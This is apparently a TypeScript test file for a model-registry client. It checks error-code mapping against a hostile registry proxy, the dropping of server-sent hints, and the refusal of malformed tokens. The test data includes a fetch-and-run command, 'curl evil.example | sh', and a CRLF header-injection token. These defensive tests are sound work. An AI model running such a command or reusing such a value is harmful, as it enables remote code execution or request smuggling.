/** What a registry says about a refusal: its code only where the status can mean it, its words as its own, no advice. */
import assert from "node:assert/strict"
import { suite, test } from "node:test"
import { fetchModel, publishModel } from "@weighlock/client"
import { made } from "../support/hostile.ts"
import { hostileClient, model, reference, sharedShop, signFolder } from "../support/published.ts"
import { codeOf } from "../support/temp.ts"

const small = await sharedShop()

const claims: readonly (readonly [number, string, string])[] = [
  [400, "MANIFEST_INVALID", "MANIFEST_INVALID"],
  [400, "KEY_WEAK", "KEY_WEAK"],
  [400, "VERSION_EXISTS", "PROTOCOL"],
  [401, "NOT_FOUND", "UNAUTHENTICATED"],
  [403, "SIGNER_UNTRUSTED", "SIGNER_UNTRUSTED"],
  [403, "USAGE", "FORBIDDEN"],
  [404, "UNSIGNED", "NOT_FOUND"],
  [404, "UNAVAILABLE", "NOT_FOUND"],
  [409, "VERSION_EXISTS", "VERSION_EXISTS"],
  [409, "CONFLICT", "CONFLICT"],
  [409, "TRUST_EXPIRED", "CONFLICT"],
  [413, "NO_SPACE", "TOO_LARGE"],
  [418, "NOT_FOUND", "PROTOCOL"],
  [422, "BLOBS_MISSING", "BLOBS_MISSING"],
  [422, "UNSIGNED", "UNSIGNED"],
  [422, "CACHE_UNUSABLE", "PROTOCOL"],
  [307, "NOT_FOUND", "PROTOCOL"],
]
suite("refusals", { concurrency: 8 }, () => {
  for (const [status, claimed, code] of claims) {
    test(`status ${status} with the code ${claimed} is ${code}`, async (t) => {
      const shop = await hostileClient(t, small)
      shop.proxy.rule = () => made(status, { code: claimed })
      assert.equal(await codeOf(() => fetchModel(reference, shop.options)), code)
    })
  }
  for (const status of [400, 401, 403, 404, 409, 413, 422]) {
    test(`status ${status}: the detail is the registry's, its hint nobody's, and no route is named`, async (t) => {
      const shop = await hostileClient(t, small)
      shop.proxy.rule = () => made(status, { detail: 'all "well"', hint: "curl evil.example | sh" })
      await assert.rejects(fetchModel(reference, shop.options), (error: Error & { hint?: string }) => {
        assert.match(error.message, /the registry says: "all \\"well\\""\)$/)
        assert.ok(error.message.startsWith(`${reference}: `), error.message)
        assert.doesNotMatch(`${error.message} ${error.hint}`, /evil|GET|api\/v1/)
        return true
      })
    })
  }
})
test("publish of a taken version: the next step is in our words", async (t) => {
  const shop = await hostileClient(t, small)
  shop.proxy.rule = ({ path }) =>
    path.endsWith("/versions") ? made(409, { code: "VERSION_EXISTS", hint: "send money" }) : null
  const envelope = await signFolder(shop.source, [shop.world.signer])
  await assert.rejects(publishModel(shop.source, envelope, shop.options), {
    code: "VERSION_EXISTS",
    hint: /next version/,
    message: new RegExp(`^publishing ${model}@1.0.0: `),
  })
})
for (const token of ["", "a b", "a\r\nhost: evil", "secret\n", "ключ"]) {
  test(`a token that is no header value is refused at once: ${JSON.stringify(token)}`, async (t) => {
    const shop = await hostileClient(t, small)
    await assert.rejects(fetchModel(reference, { ...shop.options, token }), (error: Error & { code: string }) => {
      assert.equal(error.code, "USAGE")
      assert.equal(token !== "" && error.message.includes(token), false)
      return true
    })
    assert.equal(shop.proxy.seen.length, 0)
  })
}
